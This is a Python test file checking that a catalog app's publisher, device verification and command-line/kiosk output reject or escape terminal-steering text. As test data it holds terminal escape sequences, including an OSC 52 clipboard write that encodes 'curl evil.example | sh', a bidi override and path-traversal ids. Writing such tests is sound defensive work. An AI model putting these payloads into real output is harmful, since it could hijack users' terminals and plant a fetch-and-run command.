"""Catalog text never steers the user's terminal.

Titles, labels and notices reach the terminal through ``sync``, ``recommend``,
``catalog info`` and the kiosk. ESC starts the sequences that clear the screen,
set the window title, draw OSC 8 links and write the clipboard (OSC 52); a
newline lets text pose as a line of the app's own. Three layers, each tested
on its own: the publisher refuses such text with file:line:field errors, the
device refuses a signed release holding it, and the CLI and the kiosk escape
whatever still reaches them (a catalog installed before these checks).
"""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from discreet.catalog import items as items_module
from discreet.catalog import manifest as manifest_module
from discreet.catalog import reader as reader_module
from discreet.catalog import scan as scan_module
from discreet.catalog import taxonomy as taxonomy_module
from discreet.catalog.items import read_items
from discreet.catalog.manifest import load_notices
from discreet.catalog.reader import verify_catalog_folder
from discreet.catalog.taxonomy import Taxonomy, load_taxonomy
from discreet.cli import main
from discreet.errors import (
    CatalogInvalidError,
    ItemsInvalidError,
    NoticesInvalidError,
    TaxonomyInvalidError,
)
from discreet.kiosk import run_kiosk
from discreet.publish.publisher import publish_catalog
from discreet.publish.repository import PublisherRepository
from discreet.sync.client import sync_catalog
from discreet.sync.installed import InstalledCatalogs

CLEAR = "\x1b[2J\x1b[H"
WINDOW_TITLE = "\x1b]0;pwned\x07"
LINK = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
FAKE_LINE = "\nNOTICE [critical] your profile was deleted"
CSI_8BIT = "\x9b2J"
BIDI = "\u202egnp.exe"
HOSTILE_TEXT = [CLEAR, WINDOW_TITLE, LINK, CLIPBOARD, FAKE_LINE, CSI_8BIT, BIDI]
#: What no printed line may contain: the first character of each sequence above.
STEERING = re.compile("[\x1b\x07\x9b\u202e]")
TAXONOMY = Taxonomy.from_json({"categories": [{"id": "fiction", "label": "Fiction"}]})


def _jsonl(tmp_path: Path, *records: dict[str, Any]) -> Path:
    path = tmp_path / "items.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    return path


def _problems(path: Path) -> tuple[str, ...]:
    with pytest.raises(ItemsInvalidError) as caught:
        read_items(path, TAXONOMY)
    return caught.value.problems


# ---- the publisher ---------------------------------------------------------------------
@pytest.mark.parametrize("hostile", HOSTILE_TEXT)
@pytest.mark.parametrize("field", ["title", "id"])
def test_the_publisher_refuses_one_line_fields_that_steer_a_terminal(
    tmp_path: Path, field: str, hostile: str
) -> None:
    record = {"id": "a", "title": "The Orchard", field: "x" + hostile + "x"}
    path = _jsonl(tmp_path, {"id": "ok", "title": "Fine"}, record)
    (problem,) = _problems(path)
    assert problem.startswith(f"{path}:2: field {field!r} contains a control character (U+")


@pytest.mark.parametrize("hostile", [h for h in HOSTILE_TEXT if h != FAKE_LINE])
def test_the_publisher_refuses_descriptions_that_steer_a_terminal(
    tmp_path: Path, hostile: str
) -> None:
    path = _jsonl(tmp_path, {"id": "a", "title": "T", "text": "Apples." + hostile})
    (problem,) = _problems(path)
    assert problem.startswith(f"{path}:1: field 'text' contains a control character (U+")


def test_descriptions_keep_line_breaks_and_tabs(tmp_path: Path) -> None:
    csv = tmp_path / "items.csv"
    csv.write_bytes(b'id,title,text\r\na,T,"Apples.\r\n\r\n\tPears."\r\n')
    (item,) = read_items(csv, TAXONOMY)
    assert item.text == "Apples.\n\n\tPears."


def test_a_quoted_newline_in_a_csv_title_names_file_line_and_field(tmp_path: Path) -> None:
    csv = tmp_path / "items.csv"
    csv.write_text('id,title\nok,Fine\na,"Soups\nNOTICE: run this"\n', encoding="utf-8")
    (problem,) = _problems(csv)
    assert problem == f"{csv}:3: field 'title' contains a control character (U+000A)"


@pytest.mark.parametrize(
    ("item_id", "why"),
    [
        ("../etc", "contains a '..' path segment"),
        ("a/../b", "contains a '..' path segment"),
        ("a\\..\\b", "contains a '..' path segment"),
        ("a\x1bb", "contains a control character (U+001B)"),
    ],
)
def test_the_publisher_refuses_item_ids_devices_refuse(
    tmp_path: Path, item_id: str, why: str
) -> None:
    path = _jsonl(tmp_path, {"id": item_id, "title": "T"})
    assert _problems(path) == (f"{path}:1: field 'id' {why}",)


@pytest.mark.parametrize("hostile", HOSTILE_TEXT)
def test_the_publisher_refuses_labels_that_steer_a_terminal(tmp_path: Path, hostile: str) -> None:
    path = tmp_path / "taxonomy.json"
    label = {"id": "fiction", "label": "Fiction" + hostile}
    path.write_text(json.dumps({"categories": [label]}), encoding="utf-8")
    with pytest.raises(TaxonomyInvalidError, match=r"field 'label' contains a control character"):
        load_taxonomy(path)


@pytest.mark.parametrize("field", ["id", "title", "body"])
@pytest.mark.parametrize("hostile", [h for h in HOSTILE_TEXT if h != FAKE_LINE])
def test_the_publisher_refuses_notices_that_steer_a_terminal(
    tmp_path: Path, field: str, hostile: str
) -> None:
    notice = {"id": "n1", "severity": "info", "title": "New", "body": "Hi.", "date": "2026-02-01"}
    notice[field] += hostile
    path = tmp_path / "notices.json"
    path.write_text(json.dumps([notice]), encoding="utf-8")
    with pytest.raises(NoticesInvalidError, match=rf"#1: field '{field}' contains a control"):
        load_notices(path)


def test_notice_bodies_keep_line_breaks(tmp_path: Path) -> None:
    notice = {"id": "n1", "title": "New", "body": "One.\nTwo.", "date": "2026-02-01"}
    path = tmp_path / "notices.json"
    path.write_text(json.dumps([notice]), encoding="utf-8")
    assert load_notices(path)[0].body == "One.\nTwo."


# ---- the device ------------------------------------------------------------------------
def _first_item(folder: Path, **changes: str) -> None:
    lines = (folder / "items.jsonl").read_text(encoding="utf-8").splitlines()
    lines[0] = json.dumps({**json.loads(lines[0]), **changes})
    (folder / "items.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")


def _json(folder: Path, name: str, change: Callable[[Any], None]) -> None:
    document = json.loads((folder / name).read_bytes())
    change(document)
    (folder / name).write_text(json.dumps(document), encoding="utf-8")


def _notice(**fields: str) -> dict[str, str]:
    return {"id": "n1", "severity": "info", "title": "New", "body": "Hi.", "date": "2026-02-01"} | (
        fields
    )


DEVICE_CASES: dict[str, tuple[Callable[[Path], None], str]] = {
    "a title that clears the screen": (
        lambda f: _first_item(f, title="Soups" + CLEAR),
        "an item's title contains a control character (U+001B)",
    ),
    "a title with a new line": (
        lambda f: _first_item(f, title="Soups" + FAKE_LINE),
        "an item's title contains a control character (U+000A)",
    ),
    "a title with an 8-bit CSI": (
        lambda f: _first_item(f, title="Soups" + CSI_8BIT),
        "an item's title contains a control character (U+009B)",
    ),
    "a description writing the clipboard": (
        lambda f: _first_item(f, text="Apples." + CLIPBOARD),
        "an item's text contains a control character (U+001B)",
    ),
    "a language with a link": (
        lambda f: _first_item(f, language="en" + LINK),
        "an item's language contains a control character (U+001B)",
    ),
    "an empty id": (lambda f: _first_item(f, id=""), "an item id is empty"),
    "an id with a new line": (
        lambda f: _first_item(f, id="b1\nb2"),
        "an item id contains a control character (U+000A)",
    ),
    "an id with ESC": (
        lambda f: _first_item(f, id="b1" + CLEAR),
        "an item id contains a control character (U+001B)",
    ),
    "an id climbing out of a folder": (
        lambda f: _first_item(f, id="../../b1"),
        "an item id contains a '..' path segment",
    ),
    "an empty title": (lambda f: _first_item(f, title=" "), "an item has an empty title"),
    "a category label setting the window title": (
        lambda f: _json(
            f,
            "taxonomy.json",
            lambda t: t["categories"][0].update(label="Fiction" + WINDOW_TITLE),
        ),
        "taxonomy.json is invalid (taxonomy: category #1 ('fiction'): "
        "field 'label' contains a control character (U+001B)",
    ),
    "a notice writing the clipboard": (
        lambda f: _json(
            f, "manifest.json", lambda m: m["notices"].append(_notice(title="New" + CLIPBOARD))
        ),
        "the catalog manifest is malformed (notice #1: field 'title' contains a control "
        "character (U+001B)",
    ),
    "a notice body with a link": (
        lambda f: _json(f, "manifest.json", lambda m: m["notices"].append(_notice(body=LINK))),
        "the catalog manifest is malformed (notice #1: field 'body' contains a control "
        "character (U+001B)",
    ),
}


def test_the_untouched_release_verifies(release: Path) -> None:
    assert len(verify_catalog_folder(release)) == 8


@pytest.mark.parametrize("case", DEVICE_CASES)
def test_the_device_refuses_a_signed_release_that_steers_a_terminal(
    release: Path, case: str
) -> None:
    tamper, message = DEVICE_CASES[case]
    tamper(release)
    with pytest.raises(CatalogInvalidError) as caught:
        verify_catalog_folder(release)
    assert str(caught.value).startswith(message)


def test_sync_refuses_the_release_and_keeps_the_previous_catalog(
    repo: PublisherRepository, release: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    home = tmp_path / "device"
    sync_catalog(home, str(repo.path), root=repo.trusted_root_path)
    _first_item(release, title="Soups" + CLIPBOARD)
    _json(release, "manifest.json", lambda m: m["catalog"].update(version=2))
    with repo.lock():
        repo.publish_targets({p.name: p for p in release.iterdir()})
    code = main(["--home", str(home), "sync", "--from", str(repo.path)])
    out, err = capsys.readouterr()
    assert (code, out) == (1, "")
    assert err.count("\n") == 1
    assert "an item's title contains a control character (U+001B)" in err
    assert not STEERING.search(err)
    assert InstalledCatalogs(home).open().version == 1


# ---- display: what still reaches the terminal is escaped --------------------------------
@pytest.fixture
def unchecked_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, dict[str, str]]:
    """A device with hostile text installed, as a catalog verified before these checks was.

    The publisher's and the device's text rules are switched off for this test only;
    ``raising=False`` keeps the set-up valid on code that has no such rules.
    """
    for module, name in [
        (items_module, "control_problem"),
        (manifest_module, "control_problem"),
        (taxonomy_module, "control_problem"),
        (reader_module, "control_problem"),
        (scan_module, "control_problem"),
    ]:
        monkeypatch.setattr(module, name, lambda text, multiline=False: None, raising=False)
    texts = {
        "title": "Winter Soups" + CLEAR + WINDOW_TITLE + FAKE_LINE,
        "label": "Cooking" + CLIPBOARD,
        "notice": "Policy" + LINK + CSI_8BIT,
        "body": "Read this." + BIDI + "\nSecond line" + CLEAR,
    }
    taxonomy = {
        "categories": [
            {"id": "fiction", "label": "Fiction"},
            {"id": "cooking", "label": texts["label"]},
        ]
    }
    items = [
        {
            "id": f"b{i}",
            "title": f"Book {i}",
            "text": f"novel apples {i}",
            "categories": ["fiction"],
        }
        for i in range(1, 7)
    ]
    items.append(
        {"id": "soups", "title": texts["title"], "text": "soups stews", "categories": ["cooking"]}
    )
    items.append(
        {"id": "stews", "title": "Stews", "text": "stews soups", "categories": ["cooking"]}
    )
    (tmp_path / "items.jsonl").write_text("".join(json.dumps(r) + "\n" for r in items))
    (tmp_path / "taxonomy.json").write_text(json.dumps(taxonomy))
    notice = {"id": "n1", "severity": "critical", "title": texts["notice"], "body": texts["body"]}
    (tmp_path / "notices.json").write_text(json.dumps([{**notice, "date": "2026-02-01"}]))
    repo = PublisherRepository.init(tmp_path / "repo")
    publish_catalog(
        repo,
        tmp_path / "items.jsonl",
        tmp_path / "taxonomy.json",
        notices_path=tmp_path / "notices.json",
        reporting=None,
    )
    home = tmp_path / "device"
    (home / "catalog").mkdir(parents=True)
    shutil.copy(repo.trusted_root_path, home / "catalog" / "trusted_root.json")
    monkeypatch.setenv("DISCREET_HOME", str(home))
    monkeypatch.setenv("DISCREET_PASSPHRASE", "a long enough passphrase")
    monkeypatch.setenv("NO_COLOR", "1")
    texts["source"] = str(repo.path)
    return home, texts


def _printed(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    assert main(list(argv)) == 0
    out, err = capsys.readouterr()
    assert err == ""
    return out


def _assert_escaped(out: str, lines: int) -> None:
    assert not STEERING.search(out), out
    assert out.count("\n") == lines, out  # no line break of the catalog's own


def test_sync_and_catalog_info_escape_notices(
    unchecked_home: tuple[Path, dict[str, str]], capsys: pytest.CaptureFixture[str]
) -> None:
    _, texts = unchecked_home
    out = _printed(capsys, "sync", "--from", texts["source"])
    _assert_escaped(out, 1 + 3)  # the head, the notice's title and its body's two lines
    assert "\\x1b]8;;https://evil.example" in out
    assert "  Read this.\\u202egnp.exe\n  Second line\\x1b[2J\\x1b[H\n" in out
    info = _printed(capsys, "catalog", "info")
    _assert_escaped(info, 5 + 3)
    document = json.loads(_printed(capsys, "catalog", "info", "--json"))
    (notice,) = document["notices"]
    assert (notice["title"], notice["body"]) == (texts["notice"], texts["body"])  # exact


def test_recommend_and_the_kiosk_escape_titles_and_labels(
    unchecked_home: tuple[Path, dict[str, str]], capsys: pytest.CaptureFixture[str]
) -> None:
    home, texts = unchecked_home
    _printed(capsys, "sync", "--from", texts["source"])
    _printed(capsys, "init")
    _printed(capsys, "like", "stews")
    document = json.loads(_printed(capsys, "recommend", "-k", "7", "--json"))
    results = document["results"]
    assert texts["title"] in [r["title"] for r in results]  # exact in JSON
    out = _printed(capsys, "recommend", "-k", "7")
    _assert_escaped(out, sum(1 + len(r["reasons"]) for r in results))
    assert " 1. Winter Soups\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07\\nNOTICE [critical]" in out
    assert "in Cooking\\x1b]52;c;" in out  # the label, in the reasons
    why = json.loads(_printed(capsys, "explain", "soups", "--json"))
    assert why["title"] == texts["title"]
    out = _printed(capsys, "explain", "soups")
    _assert_escaped(out, 3 + len(why["reasons"]))
    interests = _printed(capsys, "interests")
    assert "Cooking\\x1b]52;c;" in interests
    _assert_escaped(interests, 2)
    said: list[str] = []
    run_kiosk(home, ["more", "more", "why 7", "quit"], said.append, idle_seconds=60)
    shown = "\n".join(said)
    assert "Winter Soups\\x1b[2J" in shown
    assert not STEERING.search(shown)
    assert not any("\n" in line for line in said)


def test_errors_are_escaped_too(
    unchecked_home: tuple[Path, dict[str, str]], capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = Path(unchecked_home[1]["source"]) / ("items" + CLEAR + ".csv")
    taxonomy = Path(unchecked_home[1]["source"]).parent / "taxonomy.json"
    repo = unchecked_home[1]["source"]
    assert (
        main(["publish", "build", str(hostile), "--taxonomy", str(taxonomy), "--repo", repo]) == 1
    )
    _, err = capsys.readouterr()
    assert "cannot read items" in err
    assert not STEERING.search(err)
    assert err.count("\n") == 1
